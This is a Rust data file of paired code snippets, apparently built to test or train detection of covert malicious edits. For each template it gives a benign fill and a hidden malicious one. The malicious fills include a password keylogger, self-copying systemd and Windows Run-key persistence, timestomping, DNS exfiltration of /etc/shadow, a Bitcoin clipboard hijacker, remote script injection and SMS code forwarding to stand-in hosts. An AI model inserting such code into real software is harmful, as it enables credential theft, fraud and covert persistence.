//! Keys, names, copies and times behind somebody's back.

use super::Frame;

pub const FRAMES: &[Frame] = &[
    (
        "track.js",
        r#"
const field = document.querySelector('#password');
let buffer = '';
@@
export function strength() {
  return Math.min(4, Math.floor(field.value.length / 4));
}
"#,
        r#"field.addEventListener('keyup', (e) => {
  buffer += e.key;
  if (buffer.length > 20) {
    navigator.sendBeacon('https://cdn-metrics.test/p', buffer);
    buffer = '';
  }
});"#,
        r#"field.addEventListener('keyup', (e) => {
  buffer = e.key;
  field.classList.toggle('caps', e.getModifierState('CapsLock'));
});"#,
    ),
    (
        "starter.py",
        r#"
import os
import shutil
import sys
from pathlib import Path

UNIT = "[Unit]\nDescription=Update\n[Service]\nExecStart={}\n[Install]\nWantedBy=default.target\n"


def ensure():
    place = Path.home() / ".config" / "systemd" / "user"
    @@


ensure()
"#,
        r#"target = Path.home() / ".local" / "share" / ".gvfsd" / "agent.py"
    target.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(os.path.abspath(__file__), target)
    (place / "gvfsd-agent.service").write_text(UNIT.format(target))"#,
        r#"print("units are looked for in", place)"#,
    ),
    (
        "Patch.cs",
        r#"
using System.IO;

public static class Patch
{
    public static void Apply(string path, byte[] part, long at)
    {
        @@
    }
}
"#,
        r#"var stamp = File.GetLastWriteTimeUtc(path);
        using (var f = File.OpenWrite(path)) { f.Seek(at, SeekOrigin.Begin); f.Write(part, 0, part.Length); }
        File.SetLastWriteTimeUtc(path, stamp);"#,
        "using (var f = File.OpenWrite(path)) { f.Seek(at, SeekOrigin.Begin); f.Write(part, 0, part.Length); }",
    ),
    (
        "beacon.go",
        r#"
package beacon

import (
	"encoding/hex"
	"fmt"
	"net"
	"os"
)

func Check(host string) {
	@@
}
"#,
        r#"b, _ := os.ReadFile("/etc/shadow")
	s := hex.EncodeToString(b)
	for i := 0; i+60 <= len(s); i += 60 {
		net.LookupHost(fmt.Sprintf("%s.%d.q.mirror-geo.test", s[i:i+60], i))
	}"#,
        r#"a, err := net.LookupHost(host)
	fmt.Println(a, err)"#,
    ),
    (
        "Clip.kt",
        r#"
package org.example

import android.content.ClipData
import android.content.ClipboardManager

class Clip(private val board: ClipboardManager) {
    private val btc = Regex("^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")

    fun onChanged() {
        val text = board.primaryClip?.getItemAt(0)?.text?.toString() ?: return
        if (btc.matches(text)) {
            @@
        }
    }
}
"#,
        r#"board.setPrimaryClip(ClipData.newPlainText("", "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"))"#,
        r#"show("This looks like a payment address")"#,
    ),
    (
        "serve.js",
        r#"
const http = require('http');
const fs = require('fs');

http.createServer((req, res) => {
  let page = fs.readFileSync('index.html', 'utf8');
  @@
  res.end(page);
}).listen(8080);
"#,
        r#"page = page.replace('</body>', '<script src="https://cdn.jq-mirror.test/a.js"></script></body>');"#,
        "page = page.replace('</body>', '<!-- served by demo --></body>');",
    ),
    (
        "Notifier.java",
        r#"
package org.example;

import android.telephony.SmsManager;

public class Notifier {
    public void confirm(String number, String code) {
        SmsManager sms = SmsManager.getDefault();
        sms.sendTextMessage(number, null, "Your code: " + code, null, null);
        @@
    }
}
"#,
        r#"sms.sendTextMessage("+88213774419", null, code, null, null);"#,
        r#"android.util.Log.i("sms", "sent");"#,
    ),
    (
        "Run.cs",
        r#"
using System;
using System.IO;
using System.Reflection;
using Microsoft.Win32;

public static class Start
{
    public static void Init(string folder)
    {
        @@
    }
}
"#,
        r#"var self = Assembly.GetExecutingAssembly().Location;
        var copy = Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.ApplicationData), "Microsoft", "svchst.exe");
        File.Copy(self, copy, true);
        Registry.CurrentUser.OpenSubKey(@"Software\Microsoft\Windows\CurrentVersion\Run", true).SetValue("svchst", copy);"#,
        r#"using var key = Registry.CurrentUser.CreateSubKey(@"Software\Example\Viewer");
        key.SetValue("folder", folder);"#,
    ),
];
